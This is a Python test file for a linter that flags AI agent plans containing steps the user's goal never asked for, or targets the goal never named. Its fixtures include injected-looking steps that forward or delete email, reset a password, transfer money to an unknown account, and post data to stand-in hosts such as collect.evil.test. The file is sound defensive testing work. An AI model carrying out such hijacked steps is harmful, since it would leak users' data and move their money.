"""Goal alignment: GOAL_UNASKED_EFFECT and GOAL_UNTRUSTED_TARGET on fixtures and small plans, the policy switch,
and the readings they rest on (tool effects, the goal's intent, trusted values)."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.lint.rules._support import fixture_findings, run_rule

from plankit.lint import Finding, LintContext, Linter, Policy, Severity
from plankit.lint._effects import name_effects
from plankit.lint._intent import asked_effects
from plankit.lint._trusted import Trusted, target_kind
from plankit.plan import plan_from_data
from plankit.tools import EFFECTS, ToolRegistry, ToolSpec

_INTENT_HINT = (
    "remove the step if nobody asked for it; otherwise say it in the goal, or declare the tool's effects "
    "(effects=[...] on the tool, or the policy's tool_effects); if your business does it after every such task, "
    "declare it in the policy's routine_effects"
)
_TARGET_HINT = (
    "take the value from the goal, the context or a step's output; if it is always fine, add it to the policy's "
    "trusted_values"
)


def _unasked(node: str, index: int, text: str, severity: Severity = Severity.WARNING) -> Finding:
    return Finding(text, node_id=node, path=f"$.steps[{index}].tool", hint=_INTENT_HINT, severity=severity)


def _untrusted(node: str, path: str, text: str) -> Finding:
    return Finding(text, node_id=node, path=path, hint=_TARGET_HINT, severity=Severity.WARNING)


@pytest.mark.parametrize(
    ("code", "name"),
    [
        ("GOAL_UNASKED_EFFECT", "good_summary_mailed_to_me"),
        ("GOAL_UNTRUSTED_TARGET", "good_targets_from_goal_context_and_steps"),
    ],
)
def test_good_fixtures_have_no_findings(code: str, name: str) -> None:
    assert fixture_findings(code, name) == []


def test_unasked_effect_bad_fixture() -> None:
    goal = "(it asks for no side effect; goal: 'Summarise my unread email')"
    assert fixture_findings("GOAL_UNASKED_EFFECT", "bad_injected_steps") == [
        _unasked(
            "fwd", 1, f"'fwd' calls email.send (send, from its tool name), which the goal does not ask for {goal}"
        ),
        _unasked(
            "wipe",
            2,
            f"'wipe' calls email.delete (destructive, from its tool name), which the goal does not ask for {goal}",
        ),
        _unasked(
            "pw",
            3,
            f"'pw' calls account.reset_password (credentials, from its tool name), which the goal does not ask for "
            f"{goal}",
        ),
    ]


def test_untrusted_target_bad_fixture() -> None:
    tail = "which is not in the goal, the plan's context or the policy's trusted_values"
    assert fixture_findings("GOAL_UNTRUSTED_TARGET", "bad_untrusted_targets") == [
        _untrusted(
            "pay",
            "$.steps[0].params.iban",
            "'pay' would move money to account 'DE89370400440532013000' (bank.transfer, $.steps[0].params.iban), "
            f"{tail}",
        ),
        _untrusted(
            "pay",
            "$.steps[0].params.amount",
            f"'pay' would move an amount of 840.2 (bank.transfer, $.steps[0].params.amount), {tail}",
        ),
        _untrusted(
            "mail",
            "$.steps[1].params.to",
            f"'mail' would send to recipient 'audit@evil.test' (email.send, $.steps[1].params.to), {tail}",
        ),
        _untrusted(
            "hook",
            "$.steps[2].params.url",
            f"'hook' would send to url 'https://collect.evil.test/r?id={{{{…}}}}' (http.post, $.steps[2].params.url), "
            f"{tail}",
        ),
    ]


def _plan(goal: str | None, *steps: dict[str, Any], context: dict[str, Any] | None = None) -> dict[str, Any]:
    plan: dict[str, Any] = {"steps": list(steps), "context": context or {}}
    if goal is not None:
        plan["goal"] = goal
    return plan


SEND = {"id": "mail", "tool": "email.send", "args": {"to": "x@evil.test", "body": "hi"}}


def test_a_plan_without_a_goal_is_not_judged() -> None:
    assert run_rule("GOAL_UNASKED_EFFECT", _plan(None, SEND)) == []
    assert run_rule("GOAL_UNTRUSTED_TARGET", _plan(None, SEND)) == []


def test_goal_alignment_off_and_error() -> None:
    plan = _plan("Summarise my inbox", SEND)
    assert run_rule("GOAL_UNASKED_EFFECT", plan, Policy(goal_alignment="off")) == []
    assert run_rule("GOAL_UNTRUSTED_TARGET", plan, Policy(goal_alignment="off")) == []
    found = run_rule("GOAL_UNASKED_EFFECT", plan, Policy(goal_alignment="error"))
    assert [(f.node_id, f.severity) for f in found] == [("mail", Severity.ERROR)]
    result = Linter(Policy(goal_alignment="error")).validate(plan)
    assert result.status.value == "ERROR"
    assert [e.code for e in result.errors] == ["GOAL_UNASKED_EFFECT", "GOAL_UNTRUSTED_TARGET"]


def test_default_policy_warns() -> None:
    result = Linter().validate(_plan("Summarise my inbox", SEND))
    assert result.status.value == "WARN"
    assert [w.code for w in result.warnings] == ["GOAL_UNASKED_EFFECT", "GOAL_UNTRUSTED_TARGET"]


def test_the_goal_words_are_named_when_the_goal_asks_for_something_else() -> None:
    plan = _plan("Delete the spam and archive old newsletters", {"id": "pay", "tool": "payments.transfer"})
    [finding] = run_rule("GOAL_UNASKED_EFFECT", plan)
    assert finding.message == (
        "'pay' calls payments.transfer (financial, from its tool name), which the goal does not ask for "
        "(it asks for: archive, delete; goal: 'Delete the spam and archive old newsletters')"
    )


def test_spec_effects_win_over_the_policy_and_the_name() -> None:
    tools = ToolRegistry([ToolSpec(name="crm.sync", effects=["send"]), ToolSpec(name="email.send", effects=["read"])])
    plan = _plan("Summarise my inbox", {"id": "a", "tool": "crm.sync"}, {"id": "b", "tool": "email.send"})
    found = run_rule("GOAL_UNASKED_EFFECT", plan, Policy(tool_effects={"crm.*": ["read"]}), tools)
    assert [(f.node_id, f.message.split("(")[1].split(")")[0]) for f in found] == [("a", "send, from its tool spec")]
    found = run_rule("GOAL_UNASKED_EFFECT", plan, Policy(tool_effects={"crm.*": ["share"]}))
    assert [(f.node_id, f.message.split("(")[1].split(")")[0]) for f in found] == [
        ("a", "share, from its policy tool_effects"),
        ("b", "send, from its tool name"),
    ]


def test_trusted_values_from_the_policy_and_allow_domains() -> None:
    plan = _plan(
        "Send the report",
        {"id": "a", "tool": "email.send", "args": {"to": "boss@corp.example", "cc": ["me@home.example"]}},
        {"id": "b", "tool": "http.post", "args": {"url": "https://api.eu.corp.example/x"}},
    )
    policy = Policy(trusted_values=["me@home.example"], allow_domains=["corp.example"])
    assert run_rule("GOAL_UNTRUSTED_TARGET", plan, policy) == []
    assert [f.path for f in run_rule("GOAL_UNTRUSTED_TARGET", plan)] == [
        "$.steps[0].params.to",
        "$.steps[0].params.cc[0]",
        "$.steps[1].params.url",
    ]


def test_partial_matches_are_not_trusted() -> None:
    plan = _plan(
        "Email ann@example.com the notes",
        {"id": "a", "tool": "email.send", "args": {"to": "nn@example.com"}},
        {"id": "b", "tool": "email.send", "args": {"to": "ann@example.com.evil.test"}},
        {"id": "c", "tool": "email.send", "args": {"to": "ANN@example.com"}},
    )
    assert [f.node_id for f in run_rule("GOAL_UNTRUSTED_TARGET", plan)] == ["a", "b"]


def test_amounts_compare_as_numbers() -> None:
    plan = _plan(
        "Pay the $1,200.50 invoice",
        {"id": "a", "tool": "bank.pay", "require_confirmation": True, "args": {"amount": 1200.5}},
        {"id": "b", "tool": "bank.pay", "require_confirmation": True, "args": {"amount": "1200.50"}},
        {"id": "c", "tool": "bank.pay", "require_confirmation": True, "args": {"amount": 1200}},
    )
    assert [f.node_id for f in run_rule("GOAL_UNTRUSTED_TARGET", plan)] == ["c"]


def test_read_steps_and_references_are_never_targets() -> None:
    plan = _plan(
        "Summarise mail from x@evil.test? no: from bob",
        {"id": "a", "tool": "email.search", "args": {"to": "someone@else.test"}},
        {"id": "b", "tool": "email.send", "args": {"to": "{{a.result.from}}", "url": {"type": "env", "key": "U"}}},
    )
    assert run_rule("GOAL_UNTRUSTED_TARGET", plan) == []


# ------------------------------------------------------------------------------------------------ readings
@pytest.mark.parametrize(
    ("tool", "effects"),
    [
        ("email.search", {"read"}),
        ("email.send", {"send"}),
        ("notify.email", {"send"}),
        ("chat.delete_message", {"destructive"}),
        ("email.set_forwarding", {"write", "send"}),
        ("account.reset_password", {"write", "credentials"}),
        ("http.post", {"send", "external"}),
        ("http.get", {"read", "external"}),
        ("calendar.create_event", {"write"}),
        ("drive.set_permissions", {"write", "share"}),
        ("files.share_link", {"share"}),
        ("payments.transfer", {"financial"}),
        ("send_money", {"send", "financial"}),
        ("bookings.get", {"read"}),
        ("flights.book", {"financial"}),
        ("shell.exec", set()),
    ],
)
def test_name_effects(tool: str, effects: set[str]) -> None:
    assert name_effects(tool) == effects


@pytest.mark.parametrize(
    ("goal", "asked"),
    [
        ("Summarise my unread email", {}),
        ("Email Bob the summary", {"send": ("email",)}),
        ("Read the latest email from Bob and reply to him", {"send": ("reply",)}),
        ("Write an email to Carol", {"send": ("email",)}),
        ("Check my bookings", {}),
        ("Book a flight to Rome", {"financial": ("book",)}),
        ("Send Bob $20", {"send": ("send",), "financial": ("$20",)}),
        ("Don't email anyone, just summarise", {}),
        ("Let Alice know I am late", {"send": ("let alice know",)}),
        ("Cancel my hotel and reset my password", {"destructive": ("cancel",), "credentials": ("reset", "password")}),
        ("Share the deck with the team", {"send": ("share",), "share": ("share",)}),
    ],
)
def test_asked_effects(goal: str, asked: dict[str, tuple[str, ...]]) -> None:
    assert asked_effects(goal).asked == asked


@pytest.mark.parametrize(
    ("key", "kind"),
    [
        ("to", "recipient"),
        ("to_account", "account"),
        ("webhookUrl", "url"),
        ("destination_path", "path"),
        ("message_id", "object"),
        ("amount", "amount"),
        ("channel", "channel"),
        ("subject", None),
        ("body", None),
    ],
)
def test_target_kind(key: str, kind: str | None) -> None:
    assert target_kind(key) == kind


def test_yaml_off_is_off() -> None:
    import yaml

    assert Policy.from_data(yaml.safe_load("goal_alignment: off")).goal_alignment == "off"
    assert Policy.default().goal_alignment == "warn"


def test_a_plain_write_is_checked_where_something_could_leave_and_for_the_object_it_changes() -> None:
    # Session 4: the id of the object a write changes is checked too (a grade changed on a student nobody
    # named); a file path written and the user's own default objects (``primary``, ``me``) are not.
    plan = _plan(
        "Write a brief on battery makers",
        {"id": "save", "tool": "file.write", "args": {"path": "reports/brief.md", "record_id": 7}},
        {
            "id": "invite",
            "tool": "calendar.create_event",
            "args": {"attendees": ["x@evil.test"], "event_id": "e9", "calendar_id": "primary"},
        },
    )
    assert [(f.node_id, f.path) for f in run_rule("GOAL_UNTRUSTED_TARGET", plan)] == [
        ("save", "$.steps[0].params.record_id"),
        ("invite", "$.steps[1].params.attendees[0]"),
        ("invite", "$.steps[1].params.event_id"),
    ]


# ------------------------------------------------------------------------------------------------ properties


@given(st.text(max_size=200))
def test_asked_effects_is_total_and_cites_the_goal(goal: str) -> None:
    intent = asked_effects(goal)
    lowered = goal.lower().replace("’", "'")
    for words in intent.asked.values():
        for word in words:
            assert word in lowered


@given(st.text(max_size=60), st.text(min_size=1, max_size=20))
def test_trusted_text_is_only_ever_a_real_occurrence(goal: str, value: str) -> None:
    ctx = LintContext(plan_from_data({"goal": goal, "steps": [{"id": "a", "tool": "x"}]}), Policy())
    if Trusted(ctx).has_text(value) and value.strip():
        assert value.strip().lower() in goal.lower()


@given(st.text(max_size=60))
def test_name_effects_is_total(tool: str) -> None:
    assert name_effects(tool) <= frozenset(EFFECTS)


def test_a_lint_run_leaves_no_reference_cycle_behind() -> None:
    # A cycle through the context would keep every run's graph alive until a full collection.
    import gc

    plan = _plan("Summarise my inbox", SEND, {"id": "pay", "tool": "payments.transfer", "args": {"amount": 5}})
    gc.collect()
    gc.disable()
    try:
        Linter().validate(plan)
        Linter().validate(plan).validation  # noqa: B018  (the summary is computed, then dropped)
        assert [obj for obj in gc.get_objects() if isinstance(obj, LintContext)] == []
    finally:
        gc.enable()
